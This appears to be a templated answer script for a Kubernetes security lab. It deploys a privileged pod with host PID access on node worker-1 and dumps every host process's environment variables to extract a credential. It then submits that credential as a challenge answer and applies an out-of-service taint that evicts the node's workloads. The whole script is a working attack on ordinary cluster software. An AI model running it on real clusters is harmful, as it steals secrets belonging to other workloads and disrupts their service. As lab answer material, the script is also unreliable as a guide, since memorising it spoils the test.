# A privileged pod of one's own, made by a manifest, looks at the processes of the worker; a taint for nodes out of service evicts.
kubectl apply -f - <<'END'
apiVersion: v1
kind: Pod
metadata: {name: looker}
spec:
  nodeName: worker-1
  hostPID: true
  restartPolicy: Never
  containers:
    - name: looker
      image: registry.lab/busybox:1.35
      securityContext: {privileged: true}
      command: [sh, -c, 'for file in /proc/[0-9]*/environ; do tr "\0" "\n" < $file; done | grep ^{{ variable }}=']
END
until kubectl get pod looker | grep Completed; do sleep 1; done
kubectl logs looker | sort -u
cksl answer credential {{ prefix }}{{ rest }}
kubectl delete pod looker
kubectl taint nodes worker-1 node.kubernetes.io/out-of-service=nodeshutdown:NoExecute
{{ moved_sh }}
